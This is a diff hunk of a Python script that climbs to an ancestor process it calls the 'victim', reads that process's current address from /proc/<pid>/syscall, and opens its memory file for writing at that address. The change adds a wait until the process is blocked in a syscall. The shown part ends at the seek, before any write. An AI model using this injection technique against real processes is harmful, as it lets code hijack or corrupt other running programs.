@@ -23,7 +23,10 @@ def parent(pid):
 victim = os.getpid()
 for _ in range(int(sys.argv[1])):
     victim = parent(victim)
-at = int(open(f"/proc/{victim}/syscall").read().split()[-1], 16)
+state = "running"
+while state == "running":  # it has not begun to wait yet
+    state = open(f"/proc/{victim}/syscall").read().split()[-1]
+at = int(state, 16)
 target = sys.argv[2].format(pid=victim)
 with open(target, "r+b", buffering=0) as memory:
     memory.seek(at)
